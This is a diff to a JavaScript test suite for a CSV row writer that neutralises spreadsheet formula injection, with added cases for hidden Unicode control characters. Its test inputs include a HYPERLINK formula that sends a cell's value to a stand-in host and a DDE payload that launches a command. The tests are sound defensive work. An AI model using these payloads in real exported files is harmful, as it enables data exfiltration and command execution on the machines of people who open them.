@@ -32,9 +32,15 @@ describe('a row of CSV', () => {
     ['＠SUM(A1)', "'＠SUM(A1)"],
     ['=HYPERLINK("https://x.example?"&A1,"ok")', `"'=HYPERLINK(""https://x.example?""&A1,""ok"")"`],
     ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ['\u200B=1+1', "'=1+1"],
+    ['\uFEFF\u202E\u0000@SUM(A1)', "'@SUM(A1)"],
   ])('takes the formula out of %j', (cell, expected) => {
     expect(csvRow([cell])).toBe(`${expected}\r\n`);
   });
+});
+
+test('nothing in a cell is unseen but what its script needs', () => {
+  expect(csvRow(['Ada\u202Etxt.exe', 'علی\u200cرضا', 'one\n\ttwo'])).toBe('Adatxt.exe,علی\u200cرضا,"one\n\ttwo"\r\n');
 });
 
 test('a table begins with a byte order mark and its header', async () => {
